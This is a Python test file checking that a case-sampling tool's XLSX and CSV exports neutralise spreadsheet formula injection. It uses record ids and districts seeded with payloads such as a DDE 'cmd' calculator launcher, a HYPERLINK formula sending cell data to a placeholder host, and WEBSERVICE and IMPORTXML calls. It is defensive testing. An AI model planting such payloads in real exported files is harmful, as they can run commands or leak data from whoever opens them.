"""Dip-samples never carry a formula from the records: the workbook stores text, the CSV quotes it."""

from __future__ import annotations

import csv
import json
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook

from checker.report.formats.escape import shown_text
from checker.report.sample import SampleRow
from checker.report.samplefiles import SampleInfo, write_sample
from tests.conftest import EXAMPLES, caselint

EXPORT = EXAMPLES / "exports" / "west-mercia-2013-01.json"
# What a spreadsheet would run, as OWASP lists it for CSV injection: =, +, -, @, tab and carriage return;
# their full-width forms; and the quote, which the CSV then doubles so that it reads back exactly.
DANGEROUS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20", "'")


def dangerous(text: str) -> bool:
    """What a spreadsheet could run: a formula start, or any space or control character before one."""
    return text.startswith(DANGEROUS) or (text[:1].isspace() or not text[:1].isprintable())


IDS = ('=HYPERLINK("http://x/"&A1,"c")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1")
DISTRICTS = ("=IMPORTXML(CANARY)", "@district", "+team", "-1", "#N/A", "North")
SEED = '=WEBSERVICE("http://x/")'


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The example export with record ids and districts written to start formulas, sampled in every format."""
    folder = tmp_path_factory.mktemp("hostile")
    data = json.loads(EXPORT.read_text(encoding="utf-8"))
    for number, case in enumerate(data["cases"]):
        case["record_id"] = f"{IDS[number % len(IDS)]}#{number}"
        case["district"] = DISTRICTS[number % len(DISTRICTS)]
    (folder / "hostile.json").write_text(json.dumps(data), encoding="utf-8")
    for name in ("s.xlsx", "s.csv", "s.json"):
        args = ("sample", "hostile.json", "--seed", SEED, "--per-rule", "6", "--output", name)
        done = caselint(*args, cwd=folder)
        assert done.returncode == 0, done.stderr
    return folder


def _written(folder: Path) -> list[list[Any]]:
    """The rows as caselint drew them, from the JSON sample (which no spreadsheet runs), as a
    workbook or CSV shows them (``shown_text``: a tab reads ``\\x09``)."""
    items = json.loads((folder / "s.json").read_text(encoding="utf-8"))["items"]
    fields = ("record_id", "rule", "outcome", "pointer")
    return [
        [*(shown_text(i[field]) for field in fields), shown_text(i["district"] or "(none)")] for i in items
    ]


def _no_formula_anywhere(path: Path) -> None:
    workbook = load_workbook(path)
    for sheet in workbook.worksheets:
        for line in sheet.iter_rows():
            for cell in line:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert cell.data_type == "s", (sheet.title, cell.coordinate, cell.value)


def test_the_workbook_stores_every_record_value_as_text_shown_as_written(hostile: Path) -> None:
    _no_formula_anywhere(hostile / "s.xlsx")
    workbook = load_workbook(hostile / "s.xlsx")
    sheet = workbook["Sample"]
    shown = [[*row[:3], row[3] or "", row[4]] for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert shown == _written(hostile)
    ids = {row[0] for row in shown}
    # Every kind of payload was drawn, so the check above covers each.
    assert all(any(i.startswith(start) for i in ids) for start in ("=", "+", "-", "@", "\\x09", "\\x0d"))
    assert {row[4] for row in shown} >= {"=IMPORTXML(CANARY)", "@district", "+team", "-1", "#N/A"}
    cells = [cell for line in sheet.iter_rows(min_row=2, max_col=5) for cell in line]
    # Excel's own mark for typed text: editing such a cell keeps it text; other cells go unmarked.
    assert all(cell.quotePrefix == dangerous(str(cell.value or "")) for cell in cells)
    about = {row[0]: row[1] for row in workbook["About"].iter_rows(values_only=True) if row[0]}
    assert about["Seed"] == SEED and about["Items per rule and outcome"] == 6


def test_the_csv_quotes_every_value_a_spreadsheet_would_run_and_nothing_else(hostile: Path) -> None:
    with (hostile / "s.csv").open(encoding="utf-8-sig", newline="") as stream:
        lines = list(csv.reader(stream))
    assert lines[0] == ["record_id", "rule", "outcome", "pointer", "district", "verdict", "note"]
    written = _written(hostile)
    assert len(lines) == len(written) + 1
    quoted = 0
    for line, row in zip(lines[1:], written, strict=True):
        for in_csv, value in zip(line[:5], row, strict=True):
            if dangerous(value):
                quoted += 1
                assert in_csv == "'" + value
            else:
                assert in_csv == value
        assert not any(dangerous(cell) and not cell.startswith("'") for cell in line), line
    assert quoted > len(written)  # most ids and districts


@pytest.mark.parametrize("name", ["s.xlsx", "s.csv"])
def test_a_quoted_sample_still_reads_back(hostile: Path, name: str) -> None:
    done = caselint("sample", "--compare", name, "--format", "json", cwd=hostile)
    assert done.returncode == 0, done.stderr
    overall = json.loads(done.stdout)["overall"]
    assert sum(entry["sampled"] for entry in overall.values()) == len(_written(hostile))


def _info(input_name: str, rule: str, title: str = "title") -> SampleInfo:
    """How a sample of one input and one rule was drawn."""
    return SampleInfo(
        seed="s", per_rule=1, as_of="2013-01-07T09:00:00+00:00", rulebook_digest="d",
        tool_version="0", inputs=[input_name], rule_titles=[(rule, title)],
    )  # fmt: skip


def test_a_workbook_opens_whatever_characters_an_id_or_district_holds(tmp_path: Path) -> None:
    rows = [SampleRow("R-\ufffe\uffff\x00\ud800", "AA001", "failed", "", "North\uffff")]
    write_sample(tmp_path / "s.xlsx", rows, _info("x\ufffe.json", "AA001"))
    shown = list(
        load_workbook(tmp_path / "s.xlsx")["Sample"].iter_rows(min_row=2, max_col=5, values_only=True)
    )
    assert shown == [("R-\\ufffe\\uffff\\x00\\ud800", "AA001", "failed", None, "North\\uffff")]


def test_tabs_and_carriage_returns_are_shown_escaped_and_ordinary_values_are_not_quoted(
    tmp_path: Path,
) -> None:
    rows = [
        SampleRow("\t=1+1", "AA001", "failed", "", "\r=2+2"),
        SampleRow("R-1", "AA001", "passed", "/custody_episodes/0", None),
        SampleRow("-", "AA001", "pending", "", "North"),
    ]
    info = _info("=x.json", "AA001", "+title")
    write_sample(tmp_path / "s.csv", rows, info)
    write_sample(tmp_path / "s.xlsx", rows, info)
    with (tmp_path / "s.csv").open(encoding="utf-8-sig", newline="") as stream:
        lines = list(csv.reader(stream))
    # Shown as every report shows them: a spreadsheet reads the escape as text, not a formula.
    assert lines[1][:5] == ["\\x09=1+1", "AA001", "failed", "", "\\x0d=2+2"]
    assert lines[2][:5] == ["R-1", "AA001", "passed", "/custody_episodes/0", "(none)"]
    assert lines[3][:5] == ["'-", "AA001", "pending", "", "North"]
    _no_formula_anywhere(tmp_path / "s.xlsx")
    workbook = load_workbook(tmp_path / "s.xlsx")
    shown = list(workbook["Sample"].iter_rows(min_row=2, max_col=5, values_only=True))
    assert shown[0] == ("\\x09=1+1", "AA001", "failed", None, "\\x0d=2+2")
    assert shown[1] == ("R-1", "AA001", "passed", "/custody_episodes/0", "(none)")
    about = {row[0]: row[1] for row in workbook["About"].iter_rows(values_only=True) if row[0]}
    assert about["Input"] == "=x.json" and about["AA001"] == "+title"


def test_a_value_a_semicolon_locale_would_split_stays_one_quoted_cell(tmp_path: Path) -> None:
    """Excel where the list separator is ';' splits an unquoted 'A;=cmd' into a cell holding a formula."""
    rows = [SampleRow("A;=cmd|' /C calc'!A0", "DQ001", "passed", "", "North;=HYPERLINK(A1)")]
    write_sample(tmp_path / "s.csv", rows, _info("x.json", "DQ001"))
    raw = (tmp_path / "s.csv").read_bytes().decode("utf-8-sig")
    line = raw.split("\r\n")[1]
    assert line == '"A;=cmd|\' /C calc\'!A0","DQ001","passed","","North;=HYPERLINK(A1)","",""'
